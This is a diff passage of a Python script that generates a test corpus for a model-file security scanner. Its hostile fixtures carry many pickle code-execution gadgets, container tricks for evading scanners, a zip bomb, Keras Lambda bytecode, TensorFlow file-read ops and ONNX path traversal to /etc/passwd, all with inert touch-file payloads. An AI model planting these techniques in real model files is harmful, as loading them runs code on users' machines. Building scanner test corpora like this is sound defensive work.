+        p = put(f"{t}.pkl", asm_pickle(_Call(fn, *args), proto))
+        H(p, "pickle", technique, source, verdict, imports)
+
+    t = "torch_collect_env_run"
+    prim(t, _G("torch.utils.collect_env", "run"), _pwn(t), proto=2,
+         technique="torch.utils.collect_env.run(cmd) runs a shell command (GLOBAL, torch need not be installed to write it)",
+         source="modelscan#338 / GHSA-f745-w6jp-hpxx", imports=["torch.utils.collect_env.run"])
+    t = "multiprocessing_spawnv_passfds"
+    prim(t, multiprocessing.util.spawnv_passfds, b"/bin/sh", ("/bin/sh", "-c", _pwn(t)), (),
+         technique="multiprocessing.util.spawnv_passfds(path, argv, fds) forks and execs",
+         source="modelscan#338", imports=["multiprocessing.util.spawnv_passfds"])
+    t = "mlflow_run_entry_point"
+    prim(t, _G("mlflow.projects.backend.local", "_run_entry_point"), _pwn(t), "/tmp", "0", "0",
+         technique="mlflow.projects.backend.local._run_entry_point(command, work_dir, experiment_id, run_id)",
+         source="modelscan#338", imports=["mlflow.projects.backend.local._run_entry_point"])
+    t = "pandas_read_csv_url"
+    prim(t, _G("pandas.io.parsers.readers", "read_csv"), "http://127.0.0.1:9/aiscout-pwned.csv",
+         technique="pandas read_csv of a URL (on 127.0.0.1): network fetch / exfiltration from a model file",
+         source="modelscan#338", imports=["pandas.io.parsers.readers.read_csv"], verdict="suspicious")
+    t = "numpy_runstring"
+    prim(t, _G("numpy.testing._private.utils", "runstring"), f"import os; os.system({_pwn(t)!r})", {},
+         technique="numpy.testing._private.utils.runstring(source, dict) execs the source",
+         source="picklescan Malicious22 / modelscan#338", imports=["numpy.testing._private.utils.runstring"])
+    t = "importlib_import_module"
+    prim(t, _Call(getattr, _Call(_G("importlib", "import_module"), "os"), "system"), _pwn(t),
+         technique="getattr(importlib.import_module('os'), 'system')(cmd)", source="modelscan#338",
+         imports=["importlib.import_module", "builtins.getattr"])
+    t = "mailcap_findmatch"
+    prim(t, _G("mailcap", "findmatch"), {"text/plain": [{"view": "true", "test": _pwn(t)}]}, "text/plain",
+         technique="mailcap.findmatch(caps, type) runs the entry's 'test' command with os.system",
+         source="modelscan#338", imports=["mailcap.findmatch"])
+    t = "code_interactive_interpreter"
+    prim(t, _G("code", "InteractiveInterpreter.runcode"), _Call(_G("code", "InteractiveInterpreter")),
+         f"import os; os.system({_pwn(t)!r})",
+         technique="code.InteractiveInterpreter.runcode(InteractiveInterpreter(), source) execs the source "
+                   "(dotted STACK_GLOBAL name)",
+         source="GHSA-cj3c-v495-4xqh", imports=["code.InteractiveInterpreter.runcode"])
+    t = "pydoc_pipepager"
+    prim(t, _G("pydoc", "pipepager"), "", _pwn(t),
+         technique="pydoc.pipepager(text, cmd) runs cmd in a shell", source="picklescan Malicious18",
+         imports=["pydoc.pipepager"])
+    t = "operator_methodcaller"
+    prim(t, _Call(_G("operator", "methodcaller"), "system", _pwn(t)), _Call(_G("importlib", "import_module"), "os"),
+         technique="operator.methodcaller('system', cmd)(importlib.import_module('os'))",
+         source="GHSA-84r2-jw7c-4r5q (variant)", imports=["operator.methodcaller", "importlib.import_module"])
+    t = "functools_partial_os_system"
+    prim(t, _Call(_G("functools", "partial"), _G("os", "system"), _pwn(t)),
+         technique="functools.partial(os.system, cmd)() called with no arguments",
+         source="picklescan Malicious19 (variant)", imports=["functools.partial", "os.system"])
+    t = "types_function_from_code"
+    co = compile(f"__import__('os').system({_pwn(t)!r})", "<aiscout-fixture>", "exec")
+    fields = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
+              co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name,
+              co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars,
+              co.co_cellvars)
+    prim(t, _Call(_G("types", "FunctionType"), _Call(_G("types", "CodeType"), *fields), {}),
+         technique="cloudpickle-style function rebuild: types.FunctionType(types.CodeType(<CPython 3.11 bytecode>), {})()",
+         source="new", imports=["types.CodeType", "types.FunctionType"])
+    t = "zlib_packed_payload"
+    inner = asm_pickle(_Call(_G("os", "system"), _pwn(t)), 2)
+    prim(t, _G("pickle", "loads"), _Call(_G("zlib", "decompress"), zlib.compress(inner, 9)),
+         technique="pickle.loads(zlib.decompress(<bytes>)): the os.system pickle is only visible after inflating",
+         source="modelscan#338", imports=["pickle.loads", "zlib.decompress"])
+
+    # 4. nested pickles ---------------------------------------------------------
+    for t, mod in (("nested_pickle_loads", "pickle"), ("nested_cpickle_loads", "_pickle")):
+        inner = asm_pickle({"model_type": "linear", "hidden": 16, "labels": [f"class_{i}" for i in range(24)],
+                            "init": _Call(_G("os", "system"), _pwn(t))}, 4)
+        assert len(inner) > 255  # so it is written as BINBYTES
+        outer = {"weights": [[0.1, 0.2], [0.3, 0.4]], "bias": [0.0, 0.0], "config": _Call(_G(mod, "loads"), inner)}
+        p = put(f"{t}.pkl", asm_pickle(outer, 4))
+        H(p, "pickle", f"benign-looking dict whose 'config' is {mod}.loads(BINBYTES <pickle calling os.system>)",
+          "modelscan#267", "dangerous", [f"{mod}.loads"], nested_imports=["os.system"])
+
+    # 5. concatenated pickles ---------------------------------------------------
+    t = "concatenated_second_hostile"
+    p = put(f"{t}.pkl", pickle.dumps({"weights": [0.5, -0.5], "version": 1}, protocol=2)
+            + asm_pickle(_Call(_G("os", "system"), _pwn(t)), 2))
+    H(p, "pickle", "two pickles back to back; the first is a plain dict, the second calls os.system",
+      "picklescan malicious6", "dangerous", ["os.system"])
+
+    # 6. containers -------------------------------------------------------------
+    def hostile_sd(t):
+        sd = _small_state_dict("safety-hostile")
+        sd["_extra"] = _Call(os.system, _pwn(t))
+        return sd
+
+    t = "torch_zip_hostile"
+    write_torch_zip(d / f"{t}.pt", "archive", hostile_sd(t))
+    H(d / f"{t}.pt", "pytorch", "torch.save zip (root archive/) whose data.pkl holds a posix.system REDUCE next to the tensors",
+      "new", "dangerous", ["posix.system"])
+    t = "torch_zip_root_weights"
+    write_torch_zip(d / f"{t}.pt", "weights", hostile_sd(t))
+    H(d / f"{t}.pt", "pytorch", "the same with archive root 'weights/' (torch accepts any root name)",
+      "new", "dangerous", ["posix.system"])
+
+    def torch_entries(t, root="archive"):
+        return [{"name": f"{root}/{n}", "data": b} for n, b in torch_zip_records(hostile_sd(t))]
+
+    t = "torch_zip_damaged_member_first"
+    ents = torch_entries(t)
+    junk = {"name": "archive/.junk", "data": b"junk" * 8, "local_sig": b"PK\x03\x07"}
+    ents.insert(1, junk)  # after data.pkl in the file (so it still starts with PK\x03\x04) ...
+    order = [1, 0] + list(range(2, len(ents)))  # ... but first in the central directory
+    p = put(f"{t}.pt", zip_bytes(ents, cd_order=order))
+    H(p, "pytorch", "central directory lists 'archive/.junk' (bad local header signature) before archive/data.pkl: "
+      "zipfile.open raises BadZipFile on it; torch reads data.pkl by name", "modelscan#354", "dangerous",
+      ["posix.system"])
+    t = "torch_zip_encrypted_flag"
+    ents = torch_entries(t)
+    ents[0]["flags"] = 0x1
+    p = put(f"{t}.pt", zip_bytes(ents))
+    H(p, "pytorch", "data.pkl has general-purpose flag bit 0 (encrypted) set in both headers but is stored in clear: "
+      "zipfile refuses to open it (password required), torch ignores the flag", "GHSA-w8jq-xcqf-f792",
+      "dangerous", ["posix.system"])
+    t = "torch_zip_bad_crc"
+    ents = torch_entries(t)
+    ents[0]["crc"] = zlib.crc32(ents[0]["data"]) ^ 0xFFFFFFFF
+    p = put(f"{t}.pt", zip_bytes(ents))
+    H(p, "pytorch", "data.pkl's CRC-32 is wrong in both headers: zipfile raises 'Bad CRC-32' at the end of the member, "
+      "torch does not check CRCs", "GHSA-7q5r-7gvp-wc82", "dangerous", ["posix.system"])
+    t = "torch_zip_nonstd_member"
+    recs = torch_zip_records(_small_state_dict("safety-nonstd"))
+    evil = asm_pickle(_Call(_G("os", "system"), _pwn(t)), 2)
+    ents = [{"name": f"archive/{n}", "data": b} for n, b in recs]
+    ents.insert(3, {"name": "archive/data/evil", "data": evil})
+    p = put(f"{t}.pt", zip_bytes(ents))
+    H(p, "pytorch", "benign data.pkl; a hostile pickle hides in member 'archive/data/evil' (no pickle extension, "
+      "loadable with torch.load(..., pickle_file='data/evil'))", "GHSA-769v-p64c-89pr", "dangerous", ["os.system"])
+    t = "torch_legacy_hostile"
+    p = put(f"{t}.pt", torch_legacy_bytes(hostile_sd(t)))
+    H(p, "pytorch_legacy", "legacy torch.save: magic, protocol, sys_info, then a state dict with a posix.system REDUCE",
+      "new", "dangerous", ["posix.system"])
+    t = "torch_legacy_magic_via_eval"
+    first = asm_pickle(_Call(_G("builtins", "eval"),
+                             f"(__import__('os').system({_pwn(t)!r}), {MAGIC_NUMBER:#x})[1]"), 2)
+    p = put(f"{t}.pt", torch_legacy_bytes(_small_state_dict("safety-legacy"), first_pickle=first))
+    H(p, "pytorch_legacy", "legacy torch file whose first pickle computes the magic number with builtins.eval "
+      "(and runs os.system on the way); the rest is a benign state dict", "picklescan pytorch_magic_bypass",
+      "dangerous", ["builtins.eval"])
+
+    import joblib
+
+    for method in ("zlib", "lz4", "xz"):
+        t = f"joblib_{method}_os_system"
+        joblib.dump(_Call(os.system, _pwn(t)), d / f"{t}.joblib", compress=(method, 3))
+        H(d / f"{t}.joblib", "joblib", f"joblib.dump(compress='{method}') of a posix.system __reduce__: the pickle is "
+          "only visible after decompressing", "new", "dangerous", ["posix.system"])
+
+    t = "npy_object_hostile"
+    obj_arr = np.empty(2, dtype=object)
+    obj_arr[0] = 1.5
+    obj_arr[1] = _Call(os.system, _pwn(t))
+    np.save(d / f"{t}.npy", obj_arr, allow_pickle=True)
+    H(d / f"{t}.npy", "numpy", ".npy with dtype object: the payload is a pickle after the header (np.load(allow_pickle=True))",
+      "picklescan dns_exfiltration.npy (variant)", "dangerous", ["posix.system"])
+    t = "npz_object_hostile"
+    obj_arr = np.empty(1, dtype=object)
+    obj_arr[0] = _Call(os.system, _pwn(t))
+    with frozen_clock():
+        np.savez(d / f"{t}.npz", weights=np.ones((2, 2), np.float32), meta=obj_arr)
+    H(d / f"{t}.npz", "numpy", ".npz with a dtype=object member meta.npy holding a posix.system pickle",
+      "new", "dangerous", ["posix.system"])
+
+    t = "archive_7z_hostile"
+    inner = zip_bytes([{"name": f"model/{n}", "data": b} for n, b in torch_zip_records(hostile_sd(t))])
+    p = put(f"{t}.7z", sevenzip_bytes("model.pt", inner))
+    H(p, "7z", "7z archive (LZMA2, written by hand) holding model.pt, a torch zip with a posix.system data.pkl "
+      "(picklescan only extracts pickle-extension members from 7z)", "new", "dangerous", ["posix.system"])
+
+    t = "bomb"
+    n = 1 << 30
+    head = pickle.PROTO + b"\x04" + b"\x8e" + struct.pack("<Q", n)  # BINBYTES8 of 1 GiB
+    tail = pickle.MEMOIZE + pickle.STOP
+    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
+    chunk = bytes(1 << 20)
+    parts = [comp.compress(head)]
+    crc = zlib.crc32(head)
+    for _ in range(n >> 20):
+        parts.append(comp.compress(chunk))
+        crc = zlib.crc32(chunk, crc)
+    parts.append(comp.compress(tail))
+    crc = zlib.crc32(tail, crc)
+    parts.append(comp.flush())
+    deflated = b"".join(parts)
+    usize = len(head) + n + len(tail)
+    ents = [{"name": "archive/data.pkl", "data": deflated, "method": 8, "crc": crc, "usize": usize},
+            {"name": "archive/byteorder", "data": b"little"}, {"name": "archive/version", "data": b"3\n"}]
+    p = put(f"{t}.pt", zip_bytes(ents))
+    H(p, "pytorch", f"zip bomb: archive/data.pkl deflated to {len(deflated)} bytes expands to {usize} bytes "
+      "(a valid pickle: BINBYTES8 of 1 GiB of zeros)", "new", "suspicious", [])
+
+    # 7. Keras / TensorFlow -----------------------------------------------------
+    import h5py
+
+    payload_code = _lambda_code(f"lambda x: (__import__('os').system({_pwn('keras_lambda')!r}), x)[1]")
+    b64 = _keras2_func_dump(payload_code)
+    r = rng("safety-keras2")
+    kernel = r.standard_normal((4, 2)).astype(np.float32)
+    model_config = {"class_name": "Sequential",
+                    "config": {"name": "sequential", "layers": _keras2_layers([b64, None, None])}}
+    p = d / "keras_lambda.h5"
+    with h5py.File(p, "w", track_order=False) as f:
+        # keras 2.x hdf5_format.save_model_to_hdf5 (include_optimizer=False)
+        f.attrs["backend"] = "tensorflow"
+        f.attrs["keras_version"] = "2.13.1"
+        f.attrs["model_config"] = json.dumps(model_config).encode("utf8")
+        g = f.create_group("model_weights")
+        g.attrs["backend"] = "tensorflow"
+        g.attrs["keras_version"] = "2.13.1"
+        g.attrs["layer_names"] = np.array([b"lambda", b"dense"])
+        g.create_group("lambda").attrs["weight_names"] = np.array([], dtype="S1")
+        dg = g.create_group("dense")
+        dg.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
+        dg.create_dataset("dense/kernel:0", data=kernel, track_times=False)
+        dg.create_dataset("dense/bias:0", data=np.zeros(2, np.float32), track_times=False)
+    H(p, "keras_h5", "Keras 2 .h5 whose model_config has a Lambda layer: function = [base64(marshal(code)), null, null], "
+      "function_type 'lambda'; loading it runs the bytecode (calls os.system)", "modelscan H5LambdaDetectScan",
+      "dangerous", [])
+
+    import keras
+    from keras.src.saving import saving_lib, serialization_lib
+
+    keras.utils.set_random_seed(SEED % 2**31)
+    benign_lambda = eval(compile("lambda x: x * 2.0", "<aiscout-fixture>", "eval"))  # a constant, harmless lambda
+    model = keras.Sequential([keras.Input((4,), name="features"), keras.layers.Lambda(benign_lambda, name="lambda"),
+                              keras.layers.Dense(2, name="dense")], name="lambda_model")
+    with tempfile.TemporaryDirectory() as td:
+        tmp = Path(td) / "m.keras"
+        with frozen_clock(datetime_modules=[saving_lib], stable_id_modules=[serialization_lib]):
+            model.save(tmp)
+        with zipfile.ZipFile(tmp) as zin:
+            members = [(zi, zin.read(zi)) for zi in zin.infolist()]
+    p = d / "keras_lambda.keras"
+    code_v3 = _keras2_func_dump(_lambda_code(f"lambda x: (__import__('os').system({_pwn('keras_lambda_v3')!r}), x)[1]"))
+    with zipfile.ZipFile(p, "w") as zout:
+        for zi, data in members:
+            if zi.filename == "config.json":
+                cfg = json.loads(data)
+                layer = next(l for l in cfg["config"]["layers"] if l["class_name"] == "Lambda")
+                assert layer["config"]["function"]["class_name"] == "__lambda__"
+                layer["config"]["function"]["config"]["code"] = code_v3
+                data = json.dumps(cfg).encode()
+            zout.writestr(zi, data)
+    H(p, "keras_v3", "Keras 3 .keras written by model.save with a Lambda layer; config.json's function "
+      "{'class_name': '__lambda__', 'config': {'code': base64(marshal)}} replaced by bytecode calling os.system "
+      "(keras loads it only with safe_mode=False)", "modelscan KerasLambdaDetectScan", "dangerous", [])
+
+    make_safety_savedmodels(d, sx)
+
+    # 8. ONNX external data -----------------------------------------------------
+    for t, loc in (("onnx_external_abs", "/etc/passwd"), ("onnx_external_traversal", "../../../../../../etc/passwd")):
+        p = d / f"{t}.onnx"
+        p.write_bytes(_onnx_linear("safety-onnx", external=loc).SerializeToString())
+        H(p, "onnx", f"initializer W stored as external_data with location {loc!r} (reads a file outside the model dir)",
+          "new", "suspicious", [], external_location=loc)
+
+
+def make_safety_savedmodels(d: Path, sx: SafetyExpected):
+    import tensorflow as tf
+    from tensorflow.python.keras.protobuf import saved_metadata_pb2, versions_pb2
+
+    tf.random.set_seed(SEED % 2**31)
+    r = rng("safety-tf")
+    w0 = r.standard_normal((4, 2)).astype(np.float32)
+
+    class Dense(tf.Module):
+        def __init__(self):
+            super().__init__(name="sequential")
+            self.w = tf.Variable(w0, name="w")
+
+        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
+        def __call__(self, x):
+            return {"y": tf.matmul(x, self.w)}
+
+    class ReadFile(tf.Module):
+        @tf.function(input_signature=[])
+        def __call__(self):
+            return {"data": tf.io.read_file("/etc/passwd")}
+
+    class WriteFile(tf.Module):
+        @tf.function(input_signature=[tf.TensorSpec([], tf.string, name="contents")])
+        def __call__(self, contents):
+            tf.io.write_file(SAFETY_PWN + "savedmodel_writefile", contents)
+            return {"ok": tf.constant(True)}
+
+    class PyFunc(tf.Module):
+        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
+        def __call__(self, x):
+            # traced, never run: the graph holds an EagerPyFunc op
+            return {"y": tf.py_function(func=lambda t: t, inp=[x], Tout=tf.float32)}
+
+    def save(name, m):
+        path = d / name
+        tf.saved_model.save(m, str(path), signatures={"serving_default": m.__call__})
+        return path
+
+    # Keras 2 SavedModel: saved_model.pb + keras_metadata.pb (SavedMetadata) whose
+    # layer node is a Lambda with marshalled code, as keras 2's
+    # saving/legacy/saved_model wrote it (function tuple -> {"class_name": "__tuple__", "items": [...]}).
+    path = save("savedmodel_lambda", Dense())
+    b64 = _keras2_func_dump(_lambda_code(f"lambda x: (__import__('os').system({_pwn('savedmodel_lambda')!r}), x)[1]"))
+    layers = _keras2_layers({"class_name": "__tuple__", "items": [b64, None, None]})
+    ver = versions_pb2.VersionDef(producer=2, min_consumer=1)
+    md = saved_metadata_pb2.SavedMetadata()
+    seq = {"name": "sequential", "trainable": True, "expects_training_arg": True, "dtype": "float32",
+           "batch_input_shape": None, "must_restore_from_config": False, "preserve_input_structure_in_config": False,
+           "autocast": False, "class_name": "Sequential",
+           "config": {"name": "sequential", "layers": layers}, "shared_object_id": 0,
+           "is_graph_network": True, "keras_version": "2.13.1", "backend": "tensorflow"}
+    md.nodes.add(node_id=0, node_path="root", identifier="_tf_keras_sequential", metadata=json.dumps(seq), version=ver)
+    for i, layer in enumerate(layers[1:], start=1):
+        meta = {"name": layer["config"]["name"], "trainable": True, "expects_training_arg": False, "dtype": "float32",
+                "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
+                "preserve_input_structure_in_config": layer["class_name"] == "Lambda", "autocast": True,
+                "class_name": layer["class_name"], "config": layer["config"], "shared_object_id": i}
+        md.nodes.add(node_id=i, node_path=f"root.layer-{i - 1}", identifier="_tf_keras_layer",
+                     metadata=json.dumps(meta), version=ver)
+    (path / "keras_metadata.pb").write_bytes(md.SerializeToString(deterministic=True))
+    sx.h(path, "tf_savedmodel", "SavedModel with keras_metadata.pb (keras 2 SavedMetadata proto) describing a Lambda "
+         "layer with marshalled code", "modelscan SavedModelLambdaDetectScan", "dangerous", [],
+         defining_file=(path / "keras_metadata.pb").relative_to(sx.root).as_posix())
+
+    for name, m, op, what in (
+        ("savedmodel_readfile", ReadFile(), "ReadFile", "tf.io.read_file('/etc/passwd') in the serving signature"),
+        ("savedmodel_writefile", WriteFile(), "WriteFile", f"tf.io.write_file('{SAFETY_PWN}savedmodel_writefile', x)"),
+        ("savedmodel_pyfunc", PyFunc(), "EagerPyFunc", "tf.py_function in the graph (EagerPyFunc op)"),
+    ):
+        path = save(name, m)
+        sx.h(path, "tf_savedmodel", f"tf.saved_model.save of a tf.Module: {what}",
+             "modelscan SavedModelTensorflowOpScan", "dangerous", [], ops=[op],
+             defining_file=(path / "saved_model.pb").relative_to(sx.root).as_posix())
+
+
+def make_safety(out: Path) -> dict:
+    """Write out/safety (benign/, hostile/, expected.json, README.md); returns expected."""
+    root = out / "safety"
+    if root.exists():
+        shutil.rmtree(root)
+    (root / "benign").mkdir(parents=True)
+    (root / "hostile").mkdir(parents=True)
+    sx = SafetyExpected(root)
+    t = time.monotonic()
+    make_safety_benign(root / "benign", sx)
+    print(f"  {'safety-ok':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
+    t = time.monotonic()
+    make_safety_hostile(root / "hostile", sx)
+    print(f"  {'safety-bad':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
+    expected = sx.finish()
+    (root / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
+    (root / "README.md").write_text(safety_readme(expected))
+    verify_safety(root, expected)
+    return expected
+
+
+def safety_readme(expected: dict) -> str:
+    lines = [
+        "# Safety corpus (generated by scripts/make-fixtures.py; do not edit)",
+        "",
+        "`benign/` holds real models written by their libraries; a scanner must report them `safe`.",
+        "`hostile/` holds one file (or SavedModel directory) per code-execution or scanner-evasion technique.",
+        "They were written from raw opcode bytes or `__reduce__` stand-ins and never loaded.",
+        "**Never unpickle or load anything in `hostile/`.** Payloads are inert (`touch /tmp/aiscout-pwned-<name>`,",
+        "a read of `/etc/passwd`, a connection to 127.0.0.1:9), but they do run if loaded.",
+        "",
+        "`expected.json`:",
+        "",
+        "* `benign[]`: `{path, format}`.",
+        "* `hostile[]`: `{path, format, technique, source, min_verdict, imports}`.",
+        "  * `min_verdict` is `dangerous` for an execution primitive and `suspicious` for the rest.",
+        "  * `imports` are the callables, spelled `module.qualname` exactly as the stream names them",
+        "    (`__builtin__.eval` at protocol 2, `posix.system` for `os.system` pickled on Linux).",
+        "  * Optional keys: `resolves_to`, `nested_imports` (imports of a pickle embedded as bytes), `ops`",
+        "    (TensorFlow ops), `external_location` and `defining_file` (SavedModel directories).",
+        "",
+        "The marshalled Python code in the Keras Lambda and `types_function_from_code.pkl` is CPython 3.11 bytecode.",
+        "Every file regenerates byte-for-byte except the SavedModels' `fingerprint.pb`, which holds a random id.",
+        "",
+        "| path | format | min verdict | technique | source |",
+        "| --- | --- | --- | --- | --- |",
+    ]
+    for e in expected["benign"]:
+        lines.append(f"| `{e['path']}` | {e['format']} | safe | | |")
+    for e in expected["hostile"]:
+        lines.append(f"| `{e['path']}` | {e['format']} | {e['min_verdict']} | {e['technique']} | {e['source']} |")
+    return "\n".join(lines) + "\n"
+
+
+class _SafetyTorchUnpickler(_TorchUnpickler):
+    def find_class(self, module, name):
+        if (module, name) == ("torch._utils", "_rebuild_parameter"):
+            return lambda data, requires_grad, hooks: data
+        return super().find_class(module, name)
+
+
+def verify_safety(root: Path, expected: dict):
+    """Self-check. Benign files are read back with their own libraries; hostile
+    files are only disassembled (pickletools.genops) or parsed as containers."""
+    import gguf
+    import h5py
+    import joblib
+    import onnx
+    from safetensors import safe_open
+
+    for e in expected["benign"]:
+        p, fmt = root / e["path"], e["format"]
+        if fmt == "joblib":
+            est = joblib.load(p)
+            assert est.predict(np.array([[1.0, 1.0]]))[0] == 1, e
+        elif fmt == "pickle":
+            with open(p, "rb") as f:
+                assert pickle.load(f) == _benign_builtins_obj(), e
+        elif fmt == "pytorch":
+            with zipfile.ZipFile(p) as zf:
+                rootname = zf.namelist()[0].split("/")[0]
+                obj = _SafetyTorchUnpickler(io.BytesIO(zf.read(f"{rootname}/data.pkl")),
+                                            lambda key, dt, n: zf.read(f"{rootname}/data/{key}")).load()
+            assert len(obj) >= 2, e
+            if "ema" in obj:
+                assert obj["ema"].shape == (2, 4) and len(obj["model"]) == 2
+        elif fmt == "pytorch_legacy":
+            f = io.BytesIO(p.read_bytes())
+            assert pickle.load(f) == MAGIC_NUMBER and pickle.load(f) == PROTOCOL_VERSION
+        elif fmt == "numpy":
+            if p.suffix == ".npy":
+                assert np.load(p).dtype == np.float32  # allow_pickle=False
+            else:
+                with np.load(p) as z:
+                    assert sorted(z.files) == ["W", "steps"]
+        elif fmt == "keras_h5":
+            with h5py.File(p) as f:
+                cfg = f.attrs["model_config"]
+                cfg = cfg.decode() if isinstance(cfg, bytes) else cfg
+                assert "Dense" in cfg and "Lambda" not in cfg
+        elif fmt == "keras_v3":
+            with zipfile.ZipFile(p) as zf:
+                assert "Lambda" not in zf.read("config.json").decode()
+        elif fmt == "safetensors":
+            with safe_open(str(p), "np") as f:
+                assert len(list(f.keys())) == 2
+        elif fmt == "gguf":
+            assert len(gguf.GGUFReader(p).tensors) == 4
+        elif fmt == "onnx":
+            onnx.checker.check_model(onnx.load(str(p)), full_check=True)
+        else:
+            raise AssertionError(e)
+        if fmt in ("pickle", "joblib"):
+            globs, err = static_pickle_globals(_pickle_payload(p, fmt))
+            exec_like = {"builtins.eval", "builtins.exec", "builtins.compile", "builtins.getattr",
+                         "builtins.__import__", "builtins.open", "__builtin__.eval", "__builtin__.getattr"}
+            bad = [g for g in globs if g in exec_like or g.split(".")[0] in ("os", "posix", "nt", "subprocess", "?")]
+            # (uncompressed joblib streams hold raw array bytes between pickle opcodes)
+            assert not bad and (not err or fmt == "joblib"), (e, globs)
+
+    for e in expected["hostile"]:
+        p, fmt = root / e["path"], e["format"]
+        want = set(e["imports"])
+        if fmt in ("pickle", "joblib", "pytorch", "pytorch_legacy", "numpy", "7z"):
+            payloads = _hostile_payloads(p, fmt)
+            found = set()
+            for blob in payloads:
+                found.update(static_pickle_globals(blob)[0])
+            assert want <= found, (e["path"], want, found)
+            if "nested_imports" in e:
+                inner = [op_arg for op_arg in _bytes_args(payloads[0]) if op_arg[:1] == b"\x80"]
+                nested = set()
+                for blob in inner:
+                    nested.update(static_pickle_globals(blob)[0])
+                assert set(e["nested_imports"]) <= nested, (e["path"], nested)
+        elif fmt == "keras_h5":
+            with h5py.File(p) as f:
+                cfg = f.attrs["model_config"]
+                assert '"class_name": "Lambda"' in (cfg.decode() if isinstance(cfg, bytes) else cfg)
+        elif fmt == "keras_v3":
+            with zipfile.ZipFile(p) as zf:
+                assert '"__lambda__"' in zf.read("config.json").decode()
+        elif fmt == "tf_savedmodel":
+            blob = (root / e["defining_file"]).read_bytes()
+            assert (b"Lambda" if "ops" not in e else e["ops"][0].encode()) in blob, e["path"]
+        elif fmt == "onnx":
+            m = onnx.load(str(p), load_external_data=False)
+            assert m.graph.initializer[0].external_data[0].value == e["external_location"]
+        else:
+            raise AssertionError(e)
+    total = sum(f.stat().st_size for f in root.rglob("*") if f.is_file())
+    assert total < 2 * 1024 * 1024, f"safety corpus is {total} bytes"
+
+
+def _pickle_payload(p: Path, fmt: str) -> bytes:
+    data = p.read_bytes()
+    if fmt == "joblib":
+        if data[:1] == b"\x78":
+            return zlib.decompress(data)
+        if data[:4] == b"\x04\x22\x4d\x18":
+            import lz4.frame
+
+            return lz4.frame.decompress(data)
+        if data[:6] == b"\xfd7zXZ\x00":
+            import lzma
+
+            return lzma.decompress(data)
+    return data
+
+
+def _npy_pickle(data: bytes) -> bytes:
+    assert data[:6] == b"\x93NUMPY"
+    hlen = struct.unpack("<H", data[8:10])[0] if data[6] == 1 else struct.unpack("<I", data[8:12])[0]
+    start = (10 if data[6] == 1 else 12) + hlen
+    assert b"'descr': '|O'" in data[:start]
+    return data[start:]
+
+
+def _zip_members_raw(data: bytes) -> dict[str, bytes]:
+    """Members of a stored (method 0) zip, read from the central directory by hand
+    (ignores flags and CRCs, like torch)."""
+    eocd = data.rindex(b"PK\x05\x06")
+    n, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10: eocd + 20])
+    out, pos = {}, cd_off
+    for _ in range(n):
+        (method, csize, name_len, extra_len, comment_len, off) = (
+            struct.unpack("<H", data[pos + 10: pos + 12])[0], struct.unpack("<I", data[pos + 20: pos + 24])[0],
+            *struct.unpack("<HHH", data[pos + 28: pos + 34]), struct.unpack("<I", data[pos + 42: pos + 46])[0])
+        name = data[pos + 46: pos + 46 + name_len].decode()
+        pos += 46 + name_len + extra_len + comment_len
+        lname, lextra = struct.unpack("<HH", data[off + 26: off + 30])
+        body = data[off + 30 + lname + lextra: off + 30 + lname + lextra + csize]
+        out[name] = body if method == 0 else b""  # deflated members (the bomb) are not inflated here
+    return out
+
+
+def _hostile_payloads(p: Path, fmt: str) -> list[bytes]:
+    data = p.read_bytes()
+    if fmt in ("pickle", "pytorch_legacy"):
+        return [data]
+    if fmt == "joblib":
+        return [_pickle_payload(p, fmt)]
+    if fmt == "numpy":
+        if p.suffix == ".npy":
+            return [_npy_pickle(data)]
+        return [_npy_pickle(b) for n, b in _zip_members_raw(data).items() if b[:6] == b"\x93NUMPY" and b"|O" in b[:128]]
+    if fmt == "7z":
+        assert data[:6] == b"7z\xbc\xaf\x27\x1c"
+        import lzma
+
+        size = struct.unpack("<Q", data[12:20])[0]
+        inner = lzma.decompress(data[32: 32 + size], format=lzma.FORMAT_RAW,
+                                filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}])
+        return _hostile_payloads_zip(inner)
+    if fmt == "pytorch":
+        return _hostile_payloads_zip(data)
+    raise AssertionError(fmt)
+
+
+def _hostile_payloads_zip(data: bytes) -> list[bytes]:
+    return [b for n, b in _zip_members_raw(data).items()
+            if b[:2] in (b"\x80\x02", b"\x80\x04") and not n.endswith("/byteorder")]
+
+
+def _bytes_args(data: bytes) -> list[bytes]:
+    import pickletools
+
+    return [arg for op, arg, _ in pickletools.genops(data) if isinstance(arg, bytes)]
+
+
+def check_safety_corpus(committed: Path, fresh: Path) -> list[str]:
+    """Compare a regenerated safety corpus with the committed one, file by file."""
+    if not committed.exists():
+        return []
+    def files(root):
+        return {f.relative_to(root).as_posix(): hashlib.sha256(f.read_bytes()).hexdigest()
+                for f in sorted(root.rglob("*")) if f.is_file() and f.name not in SAFETY_NONDETERMINISTIC}
+    a, b = files(committed), files(fresh)
+    return [f"safety/{k}" for k in sorted(set(a) ^ set(b))] + [f"safety/{k}" for k in sorted(set(a) & set(b)) if a[k] != b[k]]
+
+
+# --------------------------------------------------------------------------
 def generate(out: Path) -> dict:
     out.mkdir(parents=True, exist_ok=True)
     for name in OWNED:
@@ -1274,6 +2513,7 @@ def generate(out: Path) -> dict:
     t = time.monotonic()
     verify(out, expected)
     print(f"  {'verify':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
+    make_safety(out)  # tests/fixtures/safety/ (own expected.json; see make_safety)
     return expected
 
 
@@ -1287,12 +2527,14 @@ def main() -> int:
         committed = json.loads((DEFAULT_OUT / "expected.json").read_text())
         with tempfile.TemporaryDirectory() as td:
             fresh = generate(Path(td) / "fixtures")
+            bad_safety = check_safety_corpus(DEFAULT_OUT / "safety", Path(td) / "fixtures" / "safety")
